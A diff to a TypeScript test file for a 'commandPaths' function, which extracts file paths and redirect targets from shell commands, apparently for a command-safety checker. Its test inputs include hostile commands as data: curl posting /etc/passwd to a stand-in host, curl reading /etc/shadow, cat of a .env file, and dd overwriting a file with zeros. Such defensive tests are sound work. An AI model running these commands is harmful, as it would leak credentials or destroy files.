@@ -111,7 +111,9 @@ describe('commandPaths', () => {
   it('takes path-like arguments and redirect targets', () => {
     const r = commandPaths(cmd(['cat', '../.env', 'plain', '~/x', '.hidden', '-n'], ['out.txt', '&1', '2']));
     // `plain` is a file operand of cat (facts/file-operands.ts)
-    expect(r.pathLike).toEqual(['../.env', '~/x', '.hidden', 'plain', 'out.txt', '2']);
+    expect(r.pathLike).toEqual(['../.env', '~/x', '.hidden', 'plain']);
+    // Redirect targets apart (the shell opens them in its own directory); `&1` duplicates a descriptor.
+    expect(r.redirects).toEqual(['out.txt', '2']);
     expect(r.words).toEqual(['cat', '../.env', 'plain', '~/x', '.hidden', '-n', 'out.txt', '2']);
   });
 
@@ -119,7 +121,7 @@ describe('commandPaths', () => {
     expect(commandPaths(cmd(['/usr/bin/env', 'python', '--output=/etc/x'])).pathLike).toEqual(['--output=/etc/x', '/etc/x']);
     expect(commandPaths(cmd(['curl', '-d', '@/etc/passwd', 'https://x.test/a'])).pathLike).toEqual(['@/etc/passwd', '/etc/passwd']);
     expect(commandPaths(cmd(['curl', 'file:///etc/shadow'])).pathLike).toEqual(['/etc/shadow']);
-    expect(commandPaths(cmd(['dd', 'if=/dev/zero', 'of=../x'])).pathLike).toEqual(['if=/dev/zero', '/dev/zero', 'of=../x', '../x']);
+    expect(commandPaths(cmd(['dd', 'if=/dev/zero', 'of=../x'])).pathLike).toEqual(['/dev/zero', '../x']);
     // tar's archive and, extracting, the directory it writes into (facts/file-operands.ts)
     expect(commandPaths(cmd(['tar', '-C/etc', '-xf', 'a'])).pathLike).toEqual(['-C/etc', '/etc', 'a', '.']);
     expect(commandPaths(cmd(['./build.sh'])).pathLike).toEqual(['./build.sh']);
